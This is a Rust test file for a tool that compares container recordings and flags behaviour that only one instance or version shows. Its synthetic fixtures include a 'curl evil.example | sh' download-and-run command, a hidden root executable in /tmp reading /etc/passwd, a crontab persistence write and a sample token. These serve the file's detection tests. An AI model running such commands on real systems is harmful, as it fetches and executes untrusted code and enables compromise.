//! Comparisons of small recordings, read from files as any other.

use std::sync::Arc;

use super::*;
use crate::fleet::{FleetOptions, FleetView};
use crate::formats::Writer;
use crate::model::Selection;
use crate::reports::only_here::{OnlyHere, only_here};
use crate::reports::sides::{self, Unclear};

const SECOND: u64 = 1_000_000_000;
const START: u64 = 1_795_478_400 * SECOND;

/// One process of a dump: its path, arguments, user, and what else is written of it.
struct Process<'a> {
    path: &'a str,
    args: &'a [&'a str],
    uid: u64,
    upper: bool,
    package: &'a str,
    more: &'a dyn Fn(&mut Writer),
}

impl Process<'_> {
    fn begin(&self, w: &mut Writer, node: &str) {
        w.begin(node).begin("process").text("argv0", self.path).texts("args", self.args);
        w.begin("file").text("path", self.path).number("mode", 0o100_755);
        w.text("package_name", self.package).text("package_version", "1.0");
        if self.upper {
            w.flag("in_upper_layer", true);
        }
        w.end();
        w.begin("credentials")
            .number("uid", self.uid)
            .number("effective_uid", self.uid)
            .text("user", "x")
            .end();
        w.end();
        (self.more)(w);
    }
}

fn plain(path: &str) -> Process<'_> {
    Process { path, args: &[], uid: 33, upper: false, package: "p", more: &|_| {} }
}

fn file(w: &mut Writer, folder: &str, name: &str, flags: u64) {
    let path = format!("/{folder}/{name}");
    w.begin("files").text("name", folder).begin("children").text("name", name);
    w.begin("file").text("path", &path).number("mode", 0o100_644).end();
    w.begin("open").number("flags", flags).end().end().end();
}

fn dns(w: &mut Writer, name: &str) {
    w.begin("dns_names")
        .begin("requests")
        .text("name", name)
        .number("type", 1)
        .number("class", 1)
        .end()
        .end();
}

struct Folder(tempfile::TempDir);

impl Folder {
    fn new() -> Folder {
        Folder(tempfile::tempdir().unwrap())
    }

    /// A dump of one container: a server, and under it what `below` writes.
    fn dump(&self, name: &str, version: &str, host: &str, minutes: u64, below: &dyn Fn(&mut Writer)) {
        let mut w = Writer::dump();
        w.text("host", host);
        w.begin("metadata").text("name", &format!("dump-{name}")).text("container_id", name);
        w.number("start", START).number("end", START + minutes * 60 * SECOND).end();
        w.texts("tags", ["image_name:shop/api".to_owned(), format!("image_tag:{version}")]);
        plain("/usr/sbin/nginx").begin(&mut w, "tree");
        file(&mut w, "etc", "hosts", 0);
        below(&mut w);
        w.end();
        std::fs::write(self.0.path().join(format!("{name}.protobuf")), w.finish().unwrap()).unwrap();
    }

    fn fleet(&self) -> (Fleet, Arc<FleetView>) {
        let fleet = Fleet::start(vec![self.0.path().into()], FleetOptions::default(), || {});
        let view = fleet.surveyed();
        (fleet, view)
    }
}

fn alone(fleet: &Fleet, view: &FleetView, by: DivideBy, unit: &str) -> OnlyHere {
    let workload = &view.workloads[0];
    let profile = fleet.open(&workload.name, &Cancel::default(), &mut |_| {}).unwrap();
    let everything = Selection::all(profile.observations());
    let options = CompareOptions::default();
    only_here(fleet, workload, &profile, &everything, (by, unit), &options, &Cancel::default()).unwrap()
}

/// What a comparison tells, a line a finding.
fn told(compared: &Compared) -> Vec<String> {
    let line = |finding: &Finding| {
        let reasons: Vec<&str> = finding.reasons.iter().map(|reason| reason.id).collect();
        let indent = if finding.inside { "  " } else { "" };
        let explained = if finding.explained { " explained" } else { "" };
        format!(
            "{indent}{} {} {}{explained} {}",
            finding.change.sign(),
            name(compared, finding.pair, None),
            finding.concern().id(),
            reasons.join(",")
        )
    };
    compared.findings.iter().map(line).collect()
}

#[test]
fn what_only_one_instance_does_comes_worst_first_with_its_reasons() {
    let folder = Folder::new();
    for (name, version) in [("aaaaaaaa1", "v1"), ("bbbbbbbb1", "v1"), ("cccccccc1", "v2")] {
        folder.dump(name, version, "h1", 10, &|w| {
            file(w, "tmp", &format!("cache-{}9xYz", &name[..4]), 0);
            Process { args: &["-c", "df -h"], ..plain("/bin/sh") }.begin(w, "children");
            w.end();
            if name == "bbbbbbbb1" {
                file(w, "etc", "crontab", 0o101);
                dns(w, "evil.example");
                dns(w, "db.internal");
                let more = |w: &mut Writer| {
                    dns(w, "pool.example");
                    file(w, "etc", "passwd", 0);
                };
                Process { uid: 0, upper: true, package: "", more: &more, ..plain("/tmp/.x") }
                    .begin(w, "children");
                w.end();
                Process { args: &["-c", "curl evil.example | sh"], ..plain("/bin/sh") }.begin(w, "children");
                w.end();
            }
        });
    }
    let (fleet, view) = folder.fleet();
    let found = alone(&fleet, &view, DivideBy::Instance, "bbbbbbbb1");
    assert_eq!(
        told(&found.compared),
        [
            "+ /tmp/.x high upper-layer,scratch-executable,no-package,external-name,became-root",
            "  + /etc/passwd low ",
            "  + pool.example high external-name",
            "+ /etc/crontab high persistence",
            "~ /bin/sh high arguments",
            "+ evil.example high external-name",
            "+ db.internal low ",
            "+ /tmp/cache-bbbb9xYz low explained one-off-name",
        ]
    );
    let head = &found.compared.findings[0];
    assert_eq!((head.below, found.others(), found.compared.read.0), (2, 2, found.compared.read.1));
    assert_eq!(found.compared.a.share(found.compared.pair(head.pair).a), Share { k: 0, n: 2 });
    let json = to_json(&found.compared, head, None);
    assert_eq!(json["lineage"], serde_json::json!(["/usr/sbin/nginx", "/tmp/.x"]));
    assert_eq!(json["units"], serde_json::json!({ "kind": "instances", "seen": 0, "of": 2 }));
    assert_eq!((&json["facet"], &json["change"]), (&"process".into(), &"added".into()));
    // The others do nothing that is only theirs but a file of a random name, and what is only of a version is of it.
    let other = alone(&fleet, &view, DivideBy::Instance, "aaaaaaaa1");
    assert_eq!(told(&other.compared), ["+ /tmp/cache-aaaa9xYz low explained one-off-name"]);
    let host = alone(&fleet, &view, DivideBy::Host, "h1");
    assert_eq!(host.others(), 0);
    assert!(host.caveats()[0].contains("no other host"), "{:?}", host.caveats());
}

#[test]
fn what_is_missing_is_gone_only_where_as_much_was_watched() {
    let folder = Folder::new();
    let old = |w: &mut Writer| {
        plain("/usr/bin/old-tool").begin(w, "children");
        file(w, "etc", "old.conf", 0);
        w.end();
        dns(w, "old.internal");
    };
    folder.dump("aaaaaaaa1", "v1", "h1", 10, &old);
    folder.dump("bbbbbbbb1", "v2", "h1", 5, &|_| {});
    folder.dump("cccccccc1", "v3", "h1", 10, &|w| dns(w, "new.internal"));
    let (fleet, view) = folder.fleet();
    let diff = |a: &str, b: &str| {
        let pair = sides::pair(&view, a, b, None).unwrap();
        let options = CompareOptions { missing: true, ..CompareOptions::default() };
        crate::reports::diff::diff(&fleet, &Default::default(), pair, &options, &Cancel::default()).unwrap()
    };
    let less = diff("v1", "v2").compared;
    let mut lines = told(&less);
    lines.sort();
    assert_eq!(lines, ["  ? /etc/old.conf low ", ". old.internal low ", "? /usr/bin/old-tool low "]);
    let as_much = diff("v1", "v3").compared;
    let told = told(&as_much);
    assert!(told.contains(&"- /usr/bin/old-tool low ".to_owned()), "{told:?}");
    assert!(told.contains(&"- old.internal low ".to_owned()) && told[0] == "+ new.internal low ", "{told:?}");
}

#[test]
fn a_difference_is_a_tree_with_new_processes_first() {
    let folder = Folder::new();
    folder.dump("aaaaaaaa1", "v1", "h1", 10, &|w| {
        Process { args: &["3"], ..plain("/usr/bin/python3.11") }.begin(w, "children");
        w.end();
        Process { uid: 33, ..plain("/usr/bin/worker") }.begin(w, "children");
        w.end();
    });
    folder.dump("bbbbbbbb1", "v2", "h1", 10, &|w| {
        for number in ["one", "two", "three", "four", "five"] {
            file(w, "srv", number, 0);
        }
        Process { args: &["3"], ..plain("/usr/bin/python3.12") }.begin(w, "children");
        w.end();
        Process { uid: 0, ..plain("/usr/bin/worker") }.begin(w, "children");
        w.end();
        let more = |w: &mut Writer| dns(w, "out.example");
        Process { args: &["--token=hunter2"], more: &more, ..plain("/usr/bin/curl") }.begin(w, "children");
        w.end();
    });
    let (fleet, view) = folder.fleet();
    let pair = sides::pair(&view, "v1", "v2", None).unwrap();
    let options = CompareOptions { missing: true, ..CompareOptions::default() };
    let diff = crate::reports::diff::diff(&fleet, &Default::default(), pair, &options, &Cancel::default());
    let compared = diff.unwrap().compared;
    let all = TreeLimits { unchanged: true, unfolded: true, explained: true };
    let mut text = String::new();
    for limits in [TreeLimits::default(), all] {
        let lines = tree_lines(&compared, limits);
        text += &tree_text(&compared, &lines, Some(Masker::ASCII), true);
        text += "\n";
        assert!(!tree_markdown(&compared, &lines, Some(Masker::ASCII)).contains("hunter2"));
    }
    insta::assert_snapshot!(text);
}

#[test]
fn what_is_named_is_found_or_the_candidates_are_told() {
    let folder = Folder::new();
    folder.dump("aaaaaaaa1", "v1", "h1", 10, &|_| {});
    folder.dump("aaaaaaaa2", "v2", "h2", 10, &|_| {});
    let (_, view) = folder.fleet();
    let written = |text: &str| -> Vec<String> {
        sides::meanings(&view, text, None).iter().map(sides::Named::written).collect()
    };
    assert_eq!(written("aaaaaaaa"), ["instance:aaaaaaaa1", "instance:aaaaaaaa2"]);
    assert_eq!(written("aaaaaaaa1"), ["instance:aaaaaaaa1"]);
    assert!(written("aaaa").is_empty(), "too short for a container, and no other name");
    assert_eq!((written("h1"), written("host:h2")), (vec!["host:h1".to_owned()], vec!["host:h2".to_owned()]));
    assert_eq!(written("api"), ["workload:shop/api"]);
    assert!(written("aaaaaaaa1.protobuf")[0].starts_with("file:"));
    assert!(matches!(sides::pair(&view, "v1", "v9", None), Err(Unclear::Nothing(name)) if name == "v9"));
    assert!(
        matches!(sides::pair(&view, "v1", "aaaaaaaa", None), Err(Unclear::Several(all)) if all.len() == 2)
    );
}

#[test]
fn a_random_part_explains_other_arguments_only_where_it_is_no_payload() {
    let folder = Folder::new();
    for (name, part) in [("aaaaaaaa1", "yylNwNdf0U"), ("bbbbbbbb1", "GQ95cgYppn")] {
        let folder_of = format!("/srv/tmp.{part}/data");
        folder.dump(name, "v1", "h1", 10, &|w| {
            for (path, args) in [
                ("/usr/bin/tar", &["-czf", "/srv/x.tgz", &folder_of][..]),
                ("/bin/sh", &["-c", &folder_of]),
                ("/usr/bin/cat", &[&folder_of]),
            ] {
                Process { args, ..plain(path) }.begin(w, "children");
                w.end();
            }
        });
    }
    let (fleet, view) = folder.fleet();
    let found = alone(&fleet, &view, DivideBy::Instance, "bbbbbbbb1");
    assert_eq!(
        told(&found.compared),
        ["~ /bin/sh high arguments", "~ /usr/bin/tar low explained one-off-name"],
        "what cat reads tells nothing"
    );
}
